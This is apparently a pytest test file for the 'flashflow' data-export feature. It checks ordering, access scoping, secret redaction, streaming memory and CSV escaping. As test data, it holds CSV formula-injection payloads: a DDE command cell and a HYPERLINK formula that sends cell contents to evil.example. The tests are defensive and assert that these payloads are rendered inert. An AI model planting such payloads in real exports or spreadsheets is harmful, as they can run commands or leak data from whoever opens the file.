"""Taking data out: exact, whole, in constant memory, safe to open in a spreadsheet, and nobody else's."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from flashflow.backend import Backend, Config, UserActivityService
from flashflow.backend.api.framework.streamed_response import streamed
from flashflow.backend.api.http.connection_limits import ConnectionWatch, Limits
from flashflow.backend.api.http.unread_bytes import Outgoing
from flashflow.backend.data.formats import csv_lines, unguarded
from flashflow.backend.data.parquet import rows_of
from flashflow.backend.store.activity import user_index
from flashflow.backend.store.engine.writer import Write
from flashflow.backend.store.privacy import export
from flashflow.backend.store.privacy.export import ExportFilter
from tests.support.api_client import BATCH, SCHEDULES, App, fresh, ok, problem, send
from tests.support.fixed_clock import StillClock
from tests.support.push_service import Browser
from tests.support.server_process import ROOT, ServerProcess, environment, flashflow, serving

RISKY = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    with serving(tmp_path_factory.mktemp("export")) as running:
        yield running


@pytest.fixture
def backend(tmp_path: Path) -> Iterator[Backend]:
    with Backend(Config(data_dir=tmp_path / "data", port=0, me="ada"), clock=StillClock()) as opened:
        yield opened


def track(app: App, user: str, *types: str, **fields: Any) -> None:
    rows = [{"user_id": user, "activity_type": kind} | fields for kind in types]
    assert ok(app.api("POST", BATCH, {"activities": rows}))["accepted"] == len(types)


def exported(caller: App | ServerProcess, what: str = "activities", **query: str) -> list[dict[str, Any]]:
    answer = caller.api("GET", f"/api/export/{what}", params=query)
    assert answer.status_code == 200, answer.text
    return [json.loads(line) for line in answer.text.splitlines()]


def fill(path: Path, rows: int, *, users: int = 50) -> None:
    """So many activities, straight into the file."""
    with closing(sqlite3.connect(path, isolation_level=None)) as conn:
        conn.execute("BEGIN")
        conn.execute(
            "INSERT INTO user_activities (id, user_id, activity_type, session_id, app, timestamp, received_at, "
            "metadata, page_url) WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?) "
            "SELECT randomblob(16), 'user-' || (i % ?), 'page_view', randomblob(16), 'filled', "
            "1700000000000 + i * 1000, 1700000000000 + i * 1000, '{\"n\":' || i || '}', '/page/' || (i % 97) FROM n",
            (rows, users),
        )
        conn.execute("COMMIT")


# --- what is in it ----------------------------------------------------------------------------------------------------


def test_each_line_is_the_object_that_the_api_gives_in_the_order_of_arrival(server: ServerProcess) -> None:
    app, user = App(server, "track", "read"), fresh()
    track(app, user, "one", "two", "three", metadata={"deep": [{"é": None}]}, page_url="/a?b=c")
    listed = ok(app.api("GET", f"/api/activity?user_id={user}"))["activities"]
    assert sorted(exported(app), key=lambda row: row["id"]) == sorted(listed, key=lambda row: row["id"])
    assert [row["activity_type"] for row in exported(app)] == ["one", "two", "three"]


def test_a_read_key_takes_out_what_its_own_app_wrote_and_an_admin_everything(server: ServerProcess) -> None:
    mine, other, user = App(server, "track", "read"), App(server, "track", "read", "send"), fresh()
    track(mine, user, "mine")
    track(other, user, "other")
    send(other, user)
    assert [row["activity_type"] for row in exported(mine, user_id=user)] == ["mine"]
    assert [row["activity_type"] for row in exported(server, user_id=user)] == ["mine", "other"]
    assert [row["app"] for row in exported(server, app=other.name)] == [other.name]
    assert exported(mine, "notifications") == []
    assert [row["user_id"] for row in exported(other, "notifications")] == [user]
    assert {row["app"] for row in exported(mine, "sessions")} == {mine.name}
    problem(mine.api("GET", f"/api/export/activities?app={other.name}"), "forbidden")


def test_since_is_included_and_until_is_not(server: ServerProcess) -> None:
    app, user, noon = App(server, "track", "read"), fresh(), datetime(2026, 6, 10, 12, tzinfo=UTC)
    for minutes in (0, 1, 2):
        track(app, user, f"at{minutes}", timestamp=(noon + timedelta(minutes=minutes)).isoformat())
    bounds = {"since": noon.isoformat(), "until": (noon + timedelta(minutes=2)).isoformat()}
    for more in ({}, {"user_id": user}):
        assert [row["activity_type"] for row in exported(app, **bounds, **more)] == ["at0", "at1"]


def test_no_secret_leaves_with_an_export(server: ServerProcess) -> None:
    user, token = fresh(), "tok-" + "s3cr3t" * 8
    ok(server.api("POST", "/api/devices/register", {"user_id": user, "token": token, "platform": "android"}), 201)
    keys = json.loads(Browser().subscription("https://push.example/x"))["keys"]
    web = {"user_id": user, "token": "https://push.example/x", "platform": "web", "device_info": {"keys": keys}}
    ok(server.api("POST", "/api/devices/register", web), 201)
    send(server, user, channels=["in_app", "push"], device_tokens=[token])
    told = {"user_ids": [user, "somebody-else"], "title": "t", "message": "m", "device_tokens": [token]}
    ok(server.api("POST", SCHEDULES, {"name": user, "notification": told, "rule": {"every_minutes": 5}}), 201)
    whole = server.api("GET", f"/api/users/{user}/export").text
    whole += server.api("GET", "/api/export/notifications").text
    assert user in whole
    assert not [secret for secret in (token, *keys.values()) if secret in whole]
    assert server.key not in whole
    assert "somebody-else" not in whole
    person = json.loads(server.api("GET", f"/api/users/{user}/export").text)
    assert {device["token"] for device in person["devices"]} == {"tok-…cr3t", "http…le/x"}
    assert person["schedules"][0]["notification"] == {"user_id": user, "title": "t", "message": "m"}


def test_a_users_rows_come_by_time_from_the_index_and_the_tail_alike(backend: Backend) -> None:
    service, clock = backend.activity, backend.clock
    assert isinstance(clock, StillClock)
    for number in range(700):
        service.track_activity("ada", f"t{number}", timestamp=clock.at(seconds=-(number * 7919 % 700)))
        if number == 400:
            service.settle_metrics()
            service.store.run(Write(lambda tx, items: [user_index.catch_up(tx, service.local)], None))
    slices = backend.exports.rows("activities", "jsonl", ExportFilter(user_id="ada"))
    times = [json.loads(line)["timestamp"] for line in b"".join(slices).splitlines()]
    assert len(times) == 700
    assert times == sorted(times)


# --- how much it costs ------------------------------------------------------------------------------------------------


def exporting_costs(data: Path, kind: str) -> tuple[int, int]:
    """KiB of memory that a whole ``flashflow export`` took at its most, and the lines it wrote."""
    out = data.parent / f"{data.name}.{kind}"
    command = [sys.executable, "main.py", "export", str(out)]
    process = subprocess.Popen(command, cwd=ROOT, env=environment(data))
    _, status, usage = os.wait4(process.pid, 0)
    process.returncode = os.waitstatus_to_exitcode(status)
    assert process.returncode == 0
    with out.open("rb") as lines:
        return usage.ru_maxrss, sum(1 for _ in lines)


def test_a_users_notifications_come_in_order_wherever_they_stand_in_the_inbox(
    backend: Backend, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "SLICE", 4)
    told = backend.notifications
    ids = [told.send_notification("ada", str(number), "m").notification_id for number in range(18)]
    told.send_notification("bob", "not hers", "m")
    for number, move in enumerate([told.mark_notification_as_read, told.archive_notification] * 6):
        move(ids[number])
    rows = [row for part in export.notifications(told.store, ExportFilter(user_id="ada")) for row in part]
    assert [row.id for row in rows] == ids
    assert {row.inbox for row in rows} == {"read", "archived", "unread"}


@pytest.mark.skipif(not hasattr(os, "wait4"), reason="memory of one process is told by wait4")
@pytest.mark.parametrize("kind", ["jsonl", "csv"])
def test_an_export_holds_no_more_memory_for_two_hundred_thousand_rows_than_for_two_thousand(
    tmp_path: Path, kind: str
) -> None:
    costs = {}
    for rows in (2_000, 200_000):
        data = tmp_path / str(rows)
        data.mkdir()
        with UserActivityService(data / "user_activities.db"):
            pass
        fill(data / "user_activities.db", rows)
        costs[rows], lines = exporting_costs(data, kind)
        assert lines == rows + (kind == "csv")
    assert costs[200_000] - costs[2_000] < 12 * 1024


def test_an_export_has_what_was_there_when_it_began(backend: Backend) -> None:
    for number in range(1_200):
        backend.activity.track_activity("ada", f"t{number}")
    pieces = backend.exports.rows("activities", "jsonl", ExportFilter())
    first = next(pieces)
    backend.activity.track_activity("ada", "afterwards")
    assert len((first + b"".join(pieces)).splitlines()) == 1_200


def test_an_export_that_breaks_off_is_not_taken_for_all_of_it(tmp_path: Path) -> None:
    with serving(tmp_path) as server:
        server.stop()
        fill(tmp_path / "user_activities.db", 150_000)
    with serving(tmp_path) as server:
        headers = {"Authorization": f"Bearer {server.key}"}
        with httpx.stream("GET", f"{server.url}/api/export/activities", headers=headers, trust_env=False) as answer:
            next(answer.iter_bytes())
        ok(server.api("GET", "/api/activity?limit=1"))
        with httpx.stream("GET", f"{server.url}/api/export/activities", headers=headers, trust_env=False) as answer:
            pieces = answer.iter_bytes()
            next(pieces)
            assert server.stop() == 0
            with pytest.raises(httpx.RemoteProtocolError):  # what came is not taken for all
                sum(map(len, pieces))


@pytest.mark.parametrize("ended_by", ["the client", "the server"])
def test_nothing_more_is_made_of_an_export_that_nobody_waits_for(ended_by: str) -> None:
    made: list[int] = []
    sent: list[Any] = []

    def pieces() -> Iterator[bytes]:
        for number in range(1_000):
            made.append(number)
            yield b"x"

    async def run() -> None:
        services = SimpleNamespace(
            readers=SimpleNamespace(short=ThreadPoolExecutor(1)),
            stopping=asyncio.Event(),
            outgoing=Outgoing(ConnectionWatch(Limits())),
        )
        call: Any = SimpleNamespace(services=services, read=asyncio.to_thread, caller=SimpleNamespace(app="x"))
        gone = asyncio.Event()

        async def receive() -> dict[str, str]:
            await gone.wait()
            return {"type": "http.disconnect"}

        async def send(message: Any) -> None:
            sent.append(message)
            if len(sent) == 5:
                (gone if ended_by == "the client" else services.stopping).set()

        answer = await streamed(call, pieces(), "text/plain", "x")
        await answer.go({"method": "GET"}, receive, send)

    asyncio.run(run())
    assert len(made) < 10
    assert all(message.get("more_body", True) for message in sent), "it is not said to be whole"


# --- CSV --------------------------------------------------------------------------------------------------------------

CELLS = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=12) | st.sampled_from(
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "'=1",
        "''",
        '"',
        "a,b",
        'a"b',
        "\r\n",
        "=cmd|' /C calc'!A0",
    ]
)


@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), min_size=1, max_size=20))
def test_no_cell_is_a_formula_and_every_cell_comes_back(rows: list[list[str]]) -> None:
    text = csv_lines(rows).decode()
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert not any(cell.startswith(RISKY) for row in read for cell in row)
    assert [[unguarded(cell) for cell in row] for row in read] == rows


def test_a_hostile_user_id_is_text_in_the_file(server: ServerProcess) -> None:
    app = App(server, "track", "read")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    track(app, hostile, "page_view", metadata={"=": "@"})
    answer = app.api("GET", "/api/export/activities?format=csv")
    assert answer.headers["content-type"].startswith("text/csv")
    header, row = csv.reader(io.StringIO(answer.text, newline=""))
    cells = dict(zip(header, row, strict=True))
    assert cells["user_id"] == "'" + hostile
    assert json.loads(cells["metadata"]) == {"=": "@"}


# --- the command line -------------------------------------------------------------------------------------------------


def test_the_command_writes_a_whole_private_file_with_the_server_running_or_not(tmp_path: Path) -> None:
    data, out = tmp_path / "data", tmp_path / "out.csv"
    with serving(data) as server:
        for number in range(3):
            ok(server.api("POST", "/api/activity/track", {"user_id": "ada", "activity_type": f"t{number}"}), 201)
        done = flashflow("export", str(out), "--user", "ada", data_dir=data)
        assert (done.returncode, done.stderr) == (0, "")
        running = out.read_bytes()
        piped = flashflow("export", "--user", "ada", data_dir=data)
    assert len(running.splitlines()) == 4
    assert out.stat().st_mode & 0o777 == 0o600
    done = flashflow("export", str(out), "--user", "ada", data_dir=data)
    assert (done.returncode, done.stderr) == (0, "")
    assert out.read_bytes() == running
    assert flashflow("export", data_dir=data).stdout == piped.stdout
    assert len(piped.stdout.splitlines()) == 3
    assert [path.name for path in tmp_path.iterdir() if path.is_file()] == ["out.csv"]


def test_a_name_that_tells_no_format_is_refused_in_one_line(tmp_path: Path) -> None:
    done = flashflow("export", str(tmp_path / "out.xls"), data_dir=tmp_path / "data")
    assert done.returncode == 1
    assert "--format" in done.stderr
    assert len(done.stderr.splitlines()) == 1
    done = flashflow("export", "--since", "yesterday", data_dir=tmp_path / "data")
    assert (done.returncode, len(done.stderr.splitlines())) == (1, 1)


def test_parquet_is_read_back_as_it_was(tmp_path: Path) -> None:
    data, out = tmp_path / "data", tmp_path / "out.parquet"
    with serving(data) as server:
        ok(server.api("POST", BATCH, {"activities": [{"user_id": "ada", "activity_type": "a", "metadata": {"n": 1}}]}))
        done = flashflow("export", str(out), data_dir=data)
        rows = exported(server)
    assert done.returncode == 0, done.stderr
    (row,) = rows_of(str(out))
    assert row["id"] == rows[0]["id"]
    assert json.loads(row["metadata"]) == {"n": 1}
    assert row["timestamp"].isoformat(timespec="milliseconds").replace("+00:00", "Z") == rows[0]["timestamp"]


def test_parquet_without_pyarrow_is_said_to_need_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "pyarrow.py").write_text("raise ImportError('not installed')")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    out = tmp_path / "out.parquet"
    done = flashflow("export", str(out), data_dir=tmp_path / "data")
    assert done.returncode == 1
    assert "pip install pyarrow" in done.stderr
    assert len(done.stderr.splitlines()) == 1
    assert not out.exists()
